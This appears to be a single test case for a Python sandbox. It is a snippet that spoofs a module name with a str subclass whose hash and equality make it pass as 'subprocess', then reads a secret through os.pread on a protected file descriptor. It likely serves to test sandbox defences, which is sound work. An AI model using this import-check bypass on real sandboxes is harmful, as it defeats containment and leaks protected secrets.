# A module's name is a str that compares as another one.
# breach: secret
import asyncio
class Name(str):
    def __hash__(self):
        return hash("subprocess")
    def __eq__(self, other):
        return other == "subprocess"
__import__(Name("math")).os.pread(SECRET_FD, 100, 0)
